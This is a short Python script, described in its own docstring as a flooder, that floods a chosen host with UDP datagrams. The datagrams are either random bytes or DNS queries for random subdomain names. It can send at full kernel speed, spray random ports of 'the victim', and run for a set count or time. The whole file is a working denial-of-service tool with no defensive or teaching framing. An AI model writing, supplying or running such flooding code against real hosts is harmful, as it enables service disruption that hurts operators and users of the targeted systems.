"""A flooder as people write it: one UDP socket that stays open, over IPv4 or IPv6, random bytes or DNS questions.

At rate 0 packets leave as fast as the kernel takes them, some ten thousand in a few tenths of a second.
"""

import argparse
import contextlib
import os
import random
import socket
import struct
import time


def question(zone: str) -> bytes:
    """A DNS query for a random name below the zone (RFC 1035)."""
    labels = [f"{random.getrandbits(40):x}", *zone.split(".")]
    name = b"".join(bytes([len(part)]) + part.encode() for part in labels)
    return (
        struct.pack("!HHHHHH", random.getrandbits(16), 0x0100, 1, 0, 0, 0)
        + name
        + struct.pack("!BHH", 0, random.choice([1, 28, 255]), 1)
    )


def main() -> None:
    """Send `--count` datagrams, or until `--seconds` are over."""
    parser = argparse.ArgumentParser()
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("--count", type=int, default=10_000)
    parser.add_argument("--rate", type=float, default=0, help="datagrams a second; 0: as many as the kernel takes")
    parser.add_argument("--seconds", type=float, default=10)
    parser.add_argument("--size", type=int, default=512, help="payload bytes")
    parser.add_argument("--zone", default="", help="ask for names below it in place of random bytes")
    parser.add_argument("--ports", action="store_true", help="another port of the victim each time")
    o = parser.parse_args()
    begun, bodies = time.monotonic(), [question(o.zone) if o.zone else os.urandom(o.size) for _ in range(200)]
    with socket.socket(socket.AF_INET6 if ":" in o.host else socket.AF_INET, socket.SOCK_DGRAM) as made:
        made.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
        for index in range(o.count):
            # A closed port's answer is an error of the next send.
            with contextlib.suppress(OSError):
                made.sendto(bodies[index % 200], (o.host, random.randint(1, 65535) if o.ports else o.port))
            if o.rate:
                time.sleep(max(0.0, begun + index / o.rate - time.monotonic()))
            if time.monotonic() - begun > o.seconds:
                break


if __name__ == "__main__":
    main()
